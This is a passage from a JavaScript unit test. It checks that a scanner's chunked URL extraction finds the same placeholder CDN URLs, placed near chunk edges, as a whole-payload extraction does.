    text += "word ".repeat((i * edge - 20 - text.length) / 5) + `${url(i)} "quoted" more words\n`;
  }
  const bytes = new TextEncoder().encode(text);
  const res = await scan(bytes);
  deepEqual(res.results.url, [
    `https://cdn1.files-cdn.top/p/${"x".repeat(40)}?id=1`,
    `https://cdn2.files-cdn.top/p/${"x".repeat(40)}?id=2`,
  ]);
  deepEqual(res.results, wholePayload(bytes, extractOptions()).results);
});
